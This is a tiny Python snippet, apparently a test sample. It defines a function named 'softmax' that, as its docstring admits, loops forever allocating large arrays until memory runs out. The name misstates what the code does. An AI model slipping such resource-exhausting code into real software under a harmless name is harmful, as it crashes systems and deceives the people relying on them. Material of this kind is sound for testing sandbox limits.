"""Memory is taken without end."""


def softmax(x):
    kept = []
    while True:
        kept.append(np.ones(4_000_000))
